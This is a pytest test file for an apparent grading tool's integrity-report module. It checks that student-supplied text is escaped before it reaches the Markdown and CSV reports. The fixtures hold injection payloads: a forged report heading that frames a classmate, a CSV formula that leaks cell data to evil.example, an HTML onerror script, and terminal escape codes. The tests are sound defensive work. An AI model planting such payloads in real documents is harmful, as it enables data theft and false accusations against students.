"""Reports no student can write into (nbgrader_sandbox.integrity): every student string, escaped, on its own line and in
its own field; a student's name and a flag's kind never come from student text.

The attack: an exception message (or a file name, or a folder name) holding "\\n\\n## <classmate>\\n- **reference**
..." drew a section of its own in the Markdown report, flagging an honest classmate; a CSV cell starting with "="
was a spreadsheet formula.
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from nbgrader_sandbox import integrity

ASSIGNMENT = "01-layernorm"
FORGED = "\n\n## classmate\n- **reference** (01-layernorm): called the reference\n\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _course(tmp_path: Path) -> Path:
    """One student, "mallory", whose grading record and intake record carry forged report lines."""
    course = tmp_path / "course"
    graded = course / "autograded" / "mallory" / ASSIGNMENT
    graded.mkdir(parents=True)
    record = {"cells": {"test_layer_norm": {"passed": False, "in_kernel": 6, "points": 6,
                                            "message": FORMULA + FORGED}},
              "events": [{"event": "timeout", "function": "layer_norm" + FORGED, "detail": FORGED + FORMULA},
                         {"event": "reference" + FORGED, "detail": "<img src=x onerror=alert(1)>`code`[a](b)"}]}
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {integrity.METADATA_KEY: record}, "cells": []}
    (graded / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(nb))
    refused = course / "submitted" / "mallory" / f".refused-{ASSIGNMENT}"
    refused.mkdir(parents=True)
    (refused / "intake.json").write_text(json.dumps([{"file": FORMULA + "notes" + FORGED, "why": "a symbolic link",
                                                      "kept_at": "x" + FORGED}]))
    return course


def _report(tmp_path: Path, students=("mallory",)) -> tuple[str, list, list[dict]]:
    course = _course(tmp_path)
    flags = []
    for student in students:
        flags += integrity.scan_submission(str(course), ASSIGNMENT, student, [ASSIGNMENT], str(course / "x"))
        flags += integrity.scan_graded(str(course), ASSIGNMENT, student, [ASSIGNMENT])
    path = course / "autograded" / f"integrity-{ASSIGNMENT}.md"
    extra = ["similar: mallory" + FORGED, FORMULA]
    text = integrity.write_report(flags, str(path), ASSIGNMENT, 2, extra)
    with open(path.with_suffix(".csv"), newline="") as fh:
        rows = list(csv.reader(fh))
    return text, flags, rows


def test_student_text_draws_no_section_and_flags_no_classmate(tmp_path):
    text, flags, rows = _report(tmp_path)
    assert len(flags) >= 4 and {f.student for f in flags} == {"mallory"}
    assert not re.search(r"^\s*#+\s*classmate", text, re.M), text
    assert [line for line in text.splitlines() if line.startswith("## ")] == ["## mallory"], text
    # rendered, as a Markdown viewer shows it: one heading, no tag of the student's, no emphasis of theirs
    import mistune

    page = mistune.html(text)
    assert re.findall(r"<h2>(.*?)</h2>", page) == ["mallory"], page
    assert "<img" not in page and "<a " not in page and "<code>" not in page, page
    assert page.count("<strong>") == len(flags), page  # only the kinds, which the grader chose
    assert "**reference**" in page.replace("\\", "")  # the forged text is there, shown as text
    # the CSV: one row per flag, each a single line; the student column is the grader's
    assert [r[0] for r in rows[1:]] == ["mallory"] * len(flags)
    assert all("\n" not in cell and "\r" not in cell for row in rows for cell in row)


def test_csv_cells_are_never_formulas(tmp_path):
    _, _, rows = _report(tmp_path)
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row), rows  # the intake flag's file
    assert integrity.csv_cell("-1+2") == "'-1+2" and integrity.csv_cell("@SUM(A1)") == "'@SUM(A1)"


def test_a_student_id_is_escaped_too(tmp_path):
    """The student id is the folder name the grader listed, but a folder name may be "x\\n## classmate"."""
    weird = "eve\n## classmate <b>"
    flags = [integrity.Flag(weird, "", "intake", "a detail")]
    text = integrity.write_report(flags, str(tmp_path / "r.md"), ASSIGNMENT, 1)
    assert "## eve\\\\n\\#\\# classmate &lt;b&gt;" in text, text
    assert not re.search(r"^\s*#+\s*classmate", text, re.M), text
    # a folder name that is not UTF-8 (os.listdir gives lone surrogates): the report is still written
    text = integrity.write_report([integrity.Flag("bad\udcff", "", "intake", "x\udcfe")], str(tmp_path / "b.md"),
                                  ASSIGNMENT, 1)
    assert "## bad\\\\udcff" in text and "x\\\\udcfe" in text, text


def test_text_is_capped_and_one_line():
    long = "x" * 100_000 + "\u202e\x1b[2J"
    assert len(integrity.one_line(long)) <= integrity.MAX_DETAIL_CHARS
    assert "\x1b" not in integrity.one_line("a\x1b[2Jb") and "\u202e" not in integrity.one_line("a\u202eb")
    with pytest.raises(ValueError, match="cap must be an int"):
        integrity.one_line("x", cap=0)
